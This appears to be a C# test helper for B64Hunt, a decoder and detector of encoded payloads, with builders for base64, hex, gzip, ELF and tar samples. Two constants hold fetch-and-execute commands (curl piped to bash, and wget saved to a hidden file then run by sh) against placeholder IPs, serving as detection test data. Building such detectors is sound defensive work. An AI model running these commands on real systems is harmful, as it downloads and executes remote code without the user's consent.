using System;
using System.Formats.Tar;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Text;
using B64Hunt.Decoding;
using Xunit;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>Builds test payloads with the BCL so every expectation can be checked by hand.</summary>
    internal static class Payloads
    {
        public const string Command = "curl -s http://203.0.113.5/x.sh | bash";
        // Its base64 has both '+' and '/' and no padding.
        public const string SymbolCommand = "wget -qO- http://198.51.100.7/m?? >~/.x; sh ~/.x";

        public static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
        public static string B64(byte[] data) => Convert.ToBase64String(data);
        public static string UrlSafe(string b64) => b64.Replace('+', '-').Replace('/', '_');
        public static string Hex(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => b.ToString("x2")));
        public static string HexEscapes(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => "\\x" + b.ToString("x2")));
        public static string PercentAll(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => "%" + b.ToString("X2")));

        public static byte[] Gzip(byte[] data)
        {
            var ms = new MemoryStream();
            using (var gz = new GZipStream(ms, CompressionLevel.Optimal, true)) gz.Write(data, 0, data.Length);
            return ms.ToArray();
        }

        public static byte[] Zlib(byte[] data)
        {
            var ms = new MemoryStream();
            using (var z = new ZLibStream(ms, CompressionLevel.Optimal, true)) z.Write(data, 0, data.Length);
            return ms.ToArray();
        }

        public static byte[] Utf8(string s) => Encoding.UTF8.GetBytes(s);

        public static byte[] RandomBytes(int count, int seed)
        {
            var bytes = new byte[count];
            new Random(seed).NextBytes(bytes);
            return bytes;
        }

        /// <summary>Decodes the line and returns the only depth-0 payload (fails when there is not exactly one).</summary>
        public static DecodedPayload Single(string line, PayloadDecoder? decoder = null)
        {
            var results = (decoder ?? new PayloadDecoder()).Decode(line);
            var top = results.Where(r => r.Depth == 0).ToList();
            Assert.True(top.Count == 1, $"expected one payload in <{line}>, got {top.Count}: {string.Join(" | ", top.Select(r => r.EncodedText))}");
            return top[0];
        }

        /// <summary>A minimal ELF header: class, byte order, type and machine where readelf finds them.</summary>
        public static byte[] Elf(bool is64, bool little, int type, int machine)
        {
            var d = new byte[256];
            d[0] = 0x7f; d[1] = (byte)'E'; d[2] = (byte)'L'; d[3] = (byte)'F';
            d[4] = (byte)(is64 ? 2 : 1); d[5] = (byte)(little ? 1 : 2); d[6] = 1;
            if (little) { d[16] = (byte)type; d[18] = (byte)machine; d[19] = (byte)(machine >> 8); }
            else { d[17] = (byte)type; d[19] = (byte)machine; d[18] = (byte)(machine >> 8); }
            for (int i = 64; i < d.Length; i++) d[i] = (byte)(i * 7);
            return d;
        }

        public static byte[] Tar(params (string Name, byte[] Data)[] members)
        {
            var ms = new MemoryStream();
            using (var writer = new TarWriter(ms, TarEntryFormat.Pax, leaveOpen: true))
                foreach (var (name, data) in members)
                    writer.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(data) });
            return ms.ToArray();
        }
    }
}
